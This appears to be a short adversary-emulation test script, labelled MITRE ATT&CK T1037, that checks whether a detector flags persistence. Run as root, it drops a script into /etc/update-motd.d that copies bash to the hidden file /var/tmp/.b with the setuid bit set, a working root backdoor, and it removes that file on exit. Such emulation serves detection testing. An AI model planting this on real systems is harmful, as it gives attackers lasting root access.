#!/usr/bin/env bash
# tactic: persistence
# technique: T1037 Boot or Logon Initialization Scripts
# behaviour: adds an update-motd.d script, which runs as root at every SSH login
# as: root
# expect: persistence
set -u
f=/etc/update-motd.d/99-sntl-eval-$SNTL_ID
if [ -d /etc/update-motd.d ]; then trap 'rm -f "$f"' EXIT; else trap 'rm -rf /etc/update-motd.d' EXIT; fi
mkdir -p /etc/update-motd.d
printf '#!/bin/sh\ncp /bin/bash /var/tmp/.b; chmod 4755 /var/tmp/.b\n' > "$f"
chmod 755 "$f"
